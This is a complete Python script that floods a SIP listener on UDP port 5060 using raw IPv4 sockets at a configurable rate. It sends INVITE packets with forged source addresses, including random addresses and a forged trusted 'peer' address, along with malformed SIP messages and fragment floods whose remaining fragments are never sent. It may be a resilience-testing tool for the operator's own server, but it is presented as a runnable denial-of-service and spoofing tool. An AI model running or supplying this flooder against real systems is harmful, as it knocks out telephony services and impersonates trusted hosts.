#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Floods a listener with datagrams from addresses that are not ours: raw IPv4, so many a second of a kind, and says how many went."""

import argparse
import random
import socket
import struct
import time

KINDS = ("sources", "single", "peer", "malformed", "fragments")


def invite(number, host):
    return (f"INVITE sip:{number}@10.10.0.10 SIP/2.0\r\nVia: SIP/2.0/UDP {host}:5060;branch=z9hG4bK{number}\r\nFrom: <sip:f@{host}>;tag={number}\r\n"
            f"To: <sip:{number}@10.10.0.10>\r\nCall-ID: flood-{number}@{host}\r\nCSeq: 1 INVITE\r\nMax-Forwards: 70\r\nContent-Length: 0\r\n\r\n").encode()


def packet(source, target, payload, fragment=0, identification=0):
    udp = struct.pack("!HHHH", 5060, 5060, 8 + len(payload) + (2000 if fragment else 0), 0) + payload
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), identification, fragment, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(target)) + udp


def one(kind, number, options):
    source = {"single": options.source, "peer": options.peer}.get(kind) or str.join(".", (str(random.randint(1, 222)), *(str(random.randint(0, 255)) for _ in range(3))))
    if kind == "malformed":
        return packet(options.source, options.target, random.choice((b"INVITE sip:x SIP/2.0\r\nno colon\r\n\r\n", b"OPTIONS x", b"\x80" * 64)))
    if kind == "fragments":  # first ones whose rest never comes
        return packet(options.peer if number % 2 else source, options.target, b"INVITE sip:x SIP/2.0\r\n" + b"x" * 1194, 0x2000, number & 0xFFFF)
    return packet(source, options.target, invite(number, source))


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--source", required=True, help="our own address")
    parser.add_argument("--peer", required=True, help="a peer's, which we forge")
    parser.add_argument("--target", required=True)
    parser.add_argument("--rate", type=int, default=10000, help="packets a second of each kind")
    parser.add_argument("--seconds", type=float, default=2)
    parser.add_argument("kinds", nargs="+", choices=KINDS)
    options = parser.parse_args()
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent, begin = dict.fromkeys(options.kinds, 0), time.monotonic()
    wanted = int(options.rate * options.seconds)
    while min(sent.values()) < wanted:
        due = min(wanted, int((time.monotonic() - begin) * options.rate) + 1)
        for kind in options.kinds:
            for _ in range(min(due - sent[kind], 500)):
                try:
                    raw.sendto(one(kind, sent[kind], options), (options.target, 0))
                except OSError:
                    time.sleep(0.001)  # its queue is full
                sent[kind] += 1
        time.sleep(0.001)
    print(" ".join(f"{kind}={count}" for kind, count in sent.items()))


if __name__ == "__main__":
    main()
